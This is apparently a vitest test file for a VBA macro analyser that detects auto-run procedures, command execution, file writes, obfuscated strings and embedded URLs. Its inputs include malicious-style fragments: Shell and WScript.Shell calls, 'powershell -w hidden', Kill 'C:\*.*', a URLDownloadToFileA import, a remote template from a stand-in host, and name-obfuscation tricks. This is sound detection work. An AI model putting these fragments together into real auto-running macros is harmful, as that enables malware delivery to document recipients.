import { describe, expect, it } from "vitest"
import { analyzeVba, type VbaAnalysis } from "../../../../core/documents/vba/AnalyzeVba.ts"

const analyze = (...sources: ReadonlyArray<string>): VbaAnalysis =>
  analyzeVba(sources.map((source, at) => ({ name: `Module${at + 1}`, source })))

const onOpen = (body: string, more = ""): VbaAnalysis => analyze(`Sub AutoOpen()\n${body}\nEnd Sub\n${more}`)

describe("code", () => {
  it.each([
    "",
    "Attribute VB_Name = \"Module1\"\r\nAttribute VB_Base = \"0{1}\"",
    "Option Explicit\nOption Compare Text\n",
    "' Shell \"cmd.exe\"\nRem and so on\n",
    "' a remark _\nShell \"cmd.exe\"\n",
    "#If VBA7 Then\n#End If\n"
  ])("is absent in %j", (source) => {
    expect(analyze(source)).toMatchObject({ hasCode: false, hasProcedures: false, executes: [] })
  })

  it("is absent in empty procedures", () => {
    expect(analyze("Private Sub Frame1_Click()\r\n\r\nEnd Sub")).toMatchObject({ hasCode: false, hasProcedures: true })
    expect(analyze("Sub a()\r\n  MsgBox 1\r\nEnd Sub").hasCode).toBe(true)
    expect(analyze("Public Rate As Double").hasCode).toBe(true)
    expect(analyze("Public Rate As Double", "").hasCode).toBe(true)
  })

  it("may have any line endings", () => {
    for (const end of ["\r\n", "\n", "\r"]) {
      const source = ["Sub AutoOpen()", "Shell \"calc\"", "End Sub"].join(end)
      expect(analyze(source)).toMatchObject({ autoRuns: ["AutoOpen"], automaticEffects: ["Shell"] })
    }
  })
})

describe("automatic procedures", () => {
  it.each([
    "Sub AutoOpen()",
    "sub autoopen",
    "Private Sub Document_Open()",
    "Public Static Function Auto_Open() As String",
    "Private Sub Workbook_BeforeClose(Cancel As Boolean)",
    "Private Sub Workbook_WindowActivate(ByVal Wn As Window)",
    "Private Sub Frame1_Layout(ByVal Index As Long)",
    "Private Sub InkEdit1_GotFocus()",
    "Sub _\n  AutoOpen _\n  ()",
    "Dim x: Sub AutoExec()"
  ])("include %j", (header) => {
    expect(analyze(`${header}\nMsgBox 1\nEnd Sub`).autoRuns).toHaveLength(1)
  })

  it.each([
    "Private Sub CommandButton1_Click()",
    "Private Sub TextBox1_Change()",
    "Sub MyAutoOpen()",
    "' Sub AutoOpen()",
    "s = \"Sub AutoOpen()\"",
    "Declare Sub AutoOpen Lib \"user32\" ()",
    "Exit Sub: AutoOpen"
  ])("do not include %j", (header) => {
    expect(analyze(`${header}\nMsgBox 1\nEnd Sub`).autoRuns).toEqual([])
  })

  it("include at most 64 names", () => {
    const layouts = Array.from({ length: 65 }, (_, at) => `Sub Frame${at}_Layout()\nMsgBox 1\nEnd Sub\n`)
    expect(analyze(layouts.join("")).autoRuns).toHaveLength(64)
    expect(analyze(layouts.slice(1).join(""), layouts[1]!).autoRuns).toHaveLength(64)
  })

  it("do not include empty procedures", () => {
    expect(analyze("Private Sub Workbook_Open()\n' later\nEnd Sub").autoRuns).toEqual([])
  })

  it("include Main of a Word module, but no event of a form", () => {
    const main = { name: "AutoExec", source: "Sub Main()\nMsgBox 1\nEnd Sub" }
    expect(analyzeVba([main]).autoRuns).toEqual(["Main"])
    expect(analyzeVba([{ ...main, name: "Module1" }]).autoRuns).toEqual([])
    const form =
      "Attribute VB_Base = \"0{6CAEBC20-86AE}{132E3DFC-465C}\"\nPrivate Sub Frame1_Layout()\nMsgBox 1\nEnd Sub"
    expect(analyze(form).autoRuns).toEqual([])
  })
})

describe("actions", () => {
  it.each([
    ["Shell \"calc\"", "Shell"],
    ["x = VBA.Shell(\"calc\", 0)", "Shell"],
    ["If 1 Then Shell _\n \"calc\" Else Beep", "Shell"],
    ["[Shell] \"calc\"", "Shell"],
    ["10 Shell \"calc\"", "Shell"],
    ["Shell PathName:=\"calc\"", "Shell"],
    ["VBA.Interaction.Shell (c)", "Shell"],
    ["DDEInitiate \"cmd\", \"/c calc\"", "DDEInitiate"],
    ["CreateObject(\"WScript.Shell\").Run \"calc\"", "CreateObject(\"WScript.Shell\")"],
    ["Set o = CreateObject(x)", "CreateObject"],
    [
      "Set o = GetObject(\"new:13709620-C279-11CE-A49E-444553540000\")",
      "GetObject(\"new:13709620-C279-11CE-A49E-444553540000\")"
    ],
    ["GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create c", "Win32_Process"],
    ["Dim w As New WshShell\nw.Exec c", "wshshell"],
    ["o.Run \"powershell -w hidden\"", ".Run"],
    ["CallByName o, m, 1, c", "CallByName"],
    ["ExecuteExcel4Macro \"EXEC(\"\"calc\"\")\"", "ExecuteExcel4Macro"],
    ["o.ShellExecute f", "ShellExecute"],
    ["ActiveDocument.FollowHyperlink \"C:\\a.exe\"", "FollowHyperlink"],
    ["ActiveDocument.AttachedTemplate = \"http://a.example/t.dotm\"", "AttachedTemplate"]
  ])("execute: %j", (body, name) => {
    expect(onOpen(body)).toMatchObject({
      executes: expect.arrayContaining([name]),
      automaticEffects: expect.arrayContaining([name])
    })
  })

  it.each([
    ["Open Environ(\"TEMP\") & \"\\a.exe\" For Binary As #1", "Open For Binary"],
    ["Open f For Output Access Write As #1", "Open For Output"],
    ["FileCopy a, b", "FileCopy"],
    ["Kill \"C:\\*.*\"", "Kill"],
    ["s.SaveToFile \"a.exe\", 2", "SaveToFile"],
    ["fso.CreateTextFile(\"a.vbs\")", "CreateTextFile"],
    ["fso.OpenTextFile \"a.vbs\", ForWriting", "OpenTextFile"],
    ["w.RegWrite k, v", "RegWrite"],
    ["System.PrivateProfileString(\"\", k, v) = 1", "PrivateProfileString"],
    ["ThisWorkbook.VBProject.VBComponents.Import f", "VBComponents.Import"],
    ["r.SetStringValue h, k, n, v", "SetStringValue"],
    ["m.InsertLines 1, c", "InsertLines"]
  ])("write: %j", (body, name) => {
    expect(onOpen(body)).toMatchObject({ writes: [name], automaticEffects: [name] })
  })

  it.each([
    "MsgBox \"Hello\"",
    "Call MySub",
    "Application.OnTime Now + TimeValue(\"00:00:05\"), \"MySub\"",
    "Application.Run \"MySub\"",
    "Application.Run \"'\" & ThisWorkbook.Name & \"'!MySub\"",
    "Sheets(1).Activate",
    "ActiveWorkbook.SaveAs \"Report.xlsx\"",
    "MkDir p: SetAttr p, vbHidden: SaveSetting a, b, c, d",
    "Set d = CreateObject(\"Scripting.Dictionary\")",
    "Set c = CreateObject(\"ADODB.Connection\"): c.Execute \"select 1\"",
    "Set f = CreateObject(\"Scripting.FileSystemObject\").OpenTextFile(\"a.txt\", ForReading)",
    "Set x = GetObject(, \"Excel.Application\")",
    "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\"): w.ExecQuery \"Select * from Win32_Processor\"",
    "ExecuteExcel4Macro \"SHOW.TOOLBAR(\"\"Ribbon\"\",False)\"",
    "CallByName frm, \"Caption\", VbLet, \"x\"",
    "Open ThisWorkbook.Path & \"\\log.txt\" For Append As #1",
    "Open f For Input As #1",
    "ActiveWorkbook.FollowHyperlink \"https://example.org/help\"",
    "Dim Shell As Object: Set Shell = x: Shell.Visible = True",
    "solver.Run 5",
    "Beep ' Shell \"calc\"",
    "s = \"Shell calc\"",
    "SendKeys \"{ESC}\""
  ])("are ordinary: %j", (body) => {
    expect(onOpen(body, "Sub MySub()\nBeep\nEnd Sub")).toMatchObject({
      autoRuns: ["AutoOpen"],
      writes: [],
      executes: [],
      automaticEffects: [],
      isObfuscated: false
    })
  })

  it("include library functions when called, by their local names", () => {
    const declare =
      "Private Declare PtrSafe Function g Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\n"
    expect(analyze(`${declare}Sub AutoOpen()\nx = g(0)\nEnd Sub`).automaticEffects).toEqual([
      "Declare URLDownloadToFileA"
    ])
    expect(analyze(`${declare}Sub AutoOpen()\nBeep\nEnd Sub`)).toMatchObject({
      writes: ["Declare URLDownloadToFileA"],
      automaticEffects: []
    })
    const sleep = "Declare Sub Sleep Lib \"kernel32\" (ByVal ms As Long)\nSub AutoOpen()\nSleep 5\nEnd Sub"
    expect(analyze(sleep)).toMatchObject({ writes: [], executes: [] })
    expect(analyze("Declare Function f Lib \"kernel32\" Alias \"#963\" (a)").executes).toHaveLength(1)
    expect(analyze("Declare Function f Lib \"shell32\" Alias \"#62\" (a)").executes).toEqual([])
  })
})

describe("automatic procedures reach", () => {
  const button = "Private Sub CommandButton1_Click()\nFileCopy a, b\nShell \"calc\"\nEnd Sub\n"

  it("nothing behind a button", () => {
    const found = onOpen("Sheets(1).Activate", button)
    expect(found).toMatchObject({
      autoRuns: ["AutoOpen"],
      writes: ["FileCopy"],
      executes: ["Shell"],
      automaticEffects: []
    })
  })

  it.each([
    "Go",
    "Call Module2.Go(1)",
    "x = 1 + Go()",
    "Application.OnTime Now, \"Module2.Go\"",
    "Application.Run \"G\" & \"o\"",
    "Application.Run Cells(1, 1)",
    "CallByName Me, \"Go\", VbMethod",
    "Dim c As New Module3"
  ])("procedures that they call by %j", (body) => {
    const go = "Sub Go()\nShell \"calc\"\nEnd Sub"
    const made = "Private Sub Class_Initialize()\nModule2.Go\nEnd Sub"
    expect(analyze(`Sub AutoOpen()\n${body}\nEnd Sub`, go, made).automaticEffects).toContain("Shell")
  })

  it.each([
    "Application.OnTime Now, \"Quiet\"",
    "Application.Run \"Quiet\", \"Go\"",
    "Run \"Quiet\"",
    "CallByName Me, \"Quiet\", VbMethod",
    "solver.Run \"Go\"",
    "CallByLabel Me, \"Go\""
  ])("no other procedure by %j", (body) => {
    const others = "Sub Quiet()\nBeep\nEnd Sub\nSub Go()\nShell \"calc\"\nEnd Sub"
    expect(analyze(`Sub AutoOpen()\n${body}\nEnd Sub`, others)).toMatchObject({
      executes: ["Shell"],
      automaticEffects: []
    })
  })

  it("events that they trigger", () => {
    const change = "Private Sub Worksheet_Change(ByVal t As Range)\nShell \"calc\"\nEnd Sub"
    expect(onOpen("Cells(1, 1) = 1", change).automaticEffects).toEqual(["Shell"])
    expect(analyze(change).automaticEffects).toEqual([])
  })
})

describe("texts", () => {
  it.each([
    ["x = \"WScr\" & \"ipt.Sh\" + \"ell\"", "program names assembled from pieces"],
    ["x = \"WScr\"\nx = x & \"ipt.Sh\"\nx = x & \"ell\"", "program names assembled from pieces"],
    ["x = Chr(87) & ChrW(&H53) & Chr$(99) & \"ript.Shell\"", "program names assembled from pieces"],
    ["x = Chr(90 - 3) & Chr(80 Xor 3) & \"cript.Shell\"", "program names assembled from pieces"],
    ["x = Replace(\"WZZScZZript.SZZhell\", \"ZZ\", \"\")", "program names assembled from pieces"],
    ["x = Join(Array(\"WScript\", \"Shell\"), \".\")", "program names assembled from pieces"],
    ["x = Mid(\"aaWScripT\", 3) & LCase(\".SHELL\")", "program names assembled from pieces"],
    ["x = Part() & \"ipt.Shell\"", "program names assembled from pieces"],
    ["x = StrReverse(\"llehS.tpircSW\")", "program names assembled from pieces"],
    ["x = Turn(\"llehS.tpircSW\")", "reversed texts"],
    ["x = Decode(\"575363726970742e5368656c6c\")", "texts in hexadecimal"],
    ["x = Decode(\"V1NjcmlwdC5TaGVsbA==\")", "texts in Base64"],
    ["x = \"W^Scr^ipt.S^hell\"", "program names with characters inserted between their letters"],
    ["x = Array(87, 83, 99, 114, 105, 112, 116, 46, 83, 104, 101, 108, 108)", "texts as lists of character codes"]
  ])("hide a name: %j", (body, obfuscation) => {
    const found = onOpen(body, "Function Part()\nPart = \"WScr\"\nEnd Function")
    expect(found).toMatchObject({
      namesInTexts: ["wscript.shell"],
      automaticEffects: ["wscript.shell"],
      isObfuscated: true,
      obfuscation
    })
  })

  it.each([
    ["Const t = \"WScr\"", "", true],
    ["Dim t As String", "Sub Fill()\nt = \"WScr\"\nEnd Sub", true],
    ["", "Const t = \"WScr\"\nSub Fill()\nt = Cells(1, 1)\nEnd Sub", true],
    ["", "Sub Fill()\nt = \"WScr\"\nEnd Sub", false]
  ])("combine values of %j and %j: %j", (before, more, isGiven) => {
    const found = analyze(`${before}\nSub AutoOpen()\nx = t & "ipt.Shell"\nEnd Sub`, more)
    expect(found.automaticEffects).toEqual(isGiven ? ["wscript.shell"] : [])
  })

  it("in plain sight hide nothing", () => {
    expect(onOpen("x = \"powershell\"")).toMatchObject({
      namesInTexts: ["powershell"],
      automaticEffects: [],
      isObfuscated: false
    })
    expect(onOpen("x = \"The shell of an egg, and a schtick\"").namesInTexts).toEqual([])
  })

  it("in forms count as well", () => {
    const modules = [{ name: "M", source: "Sub AutoOpen()\nx = UserForm1.Label1.Caption\nEnd Sub" }]
    const found = analyzeVba(modules, ["Tahoma", "powershell -c x", "aHR0cDovL2EuZXhhbXBsZS9iLmV4ZQ=="])
    expect(found).toMatchObject({
      namesInTexts: ["powershell"],
      urls: ["http://a.example/b.exe"],
      isObfuscated: false
    })
    expect(analyzeVba(modules, ["Tahoma", "Label1"]).namesInTexts).toEqual([])
  })

  it("contain addresses, including split and encoded ones", () => {
    expect(onOpen("x = \"ht\" & \"tp://a.exa\" & \"mple/b.exe\"").urls).toEqual(["http://a.example/b.exe"])
    expect(onOpen("x = D(\"aHR0cDovL2EuZXhhbXBsZS9iLmV4ZQ==\")").urls).toEqual(["http://a.example/b.exe"])
    expect(onOpen("x = \"exe.b/elpmaxe.a//:ptth\"").urls).toEqual(["http://a.example/b.exe"])
    expect(onOpen("o.OpenTextFile \"//a.example/b\", 1").urls).toEqual(["file://a.example/b"])
    expect(onOpen("Open \"\\\\server\\share\\b.txt\" For Input As #1").urls).toEqual([])
    expect(onOpen("x = \"http://schemas.microsoft.com/office\" ' http://a.example/").urls).toEqual([])
  })
})
